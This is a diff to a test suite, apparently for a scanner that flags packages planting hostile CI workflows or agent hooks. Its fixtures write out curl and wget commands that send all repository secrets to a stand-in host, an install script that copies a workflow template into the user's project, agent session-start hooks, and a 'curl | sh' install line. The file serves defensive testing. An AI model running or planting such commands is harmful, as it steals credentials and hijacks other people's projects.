@@ -50,8 +50,35 @@ examine(carriesHostileJobs, {
       },
       weight: 'strong',
     },
+    ...[
+      'curl -sSd "$ALL" https://collect.invalid',
+      'curl -s https://collect.invalid \\\n            -H "a: b" \\\n            -d "$ALL"',
+      'curl -s "https://collect.invalid/?q=$(echo $ALL | base64 -w0)"',
+      'wget -qO- "https://collect.invalid/$ALL"',
+    ].map(run => ({
+      when: `a command of the system copies a template whose step says ${run}`,
+      files: {
+        'package.json': HOOK,
+        'index.js': `require('child_process').execSync('cp -r ' + __dirname + '/template/. ' + process.env.INIT_CWD);`,
+        'template/.github/workflows/ci.yml': `jobs:\n  a:\n    steps:\n      - env:\n          ALL: \${{ join(secrets.*, ',') }}\n        run: |\n          ${run}\n`,
+      },
+      weight: 'proof' as const,
+    })),
   ],
   silent: [
+    {
+      when: 'one step hands its secrets to an action, and another one tells a chat',
+      files: {
+        'index.js': WRITES,
+        'ci.yml': `jobs:\n  a:\n    steps:\n      - uses: acme/deploy@v1\n        with:\n          all: \${{ toJSON(secrets) }}\n      - run: curl -X POST --data '{"text":"failed"}' \${{ secrets.CHAT }}\n`,
+      },
+    },
+    {
+      when: 'settings of an agent run what the project has, and a message tells how its tool is installed',
+      files: {
+        'index.js': `require('fs').writeFileSync('.claude/settings.json', JSON.stringify({ hooks: { "SessionStart": [{ hooks: [{ type: 'command', command: 'npx x status' }] }] } })); exports.says = 'uv is missing: curl -LsSf https://tool.invalid/install.sh | sh';`,
+      },
+    },
     { when: 'nothing is written', files: { 'index.js': `exports.preset = require('./preset.json')`, 'preset.json': TASK } },
     {
       when: 'a workflow hands its secrets to an action',
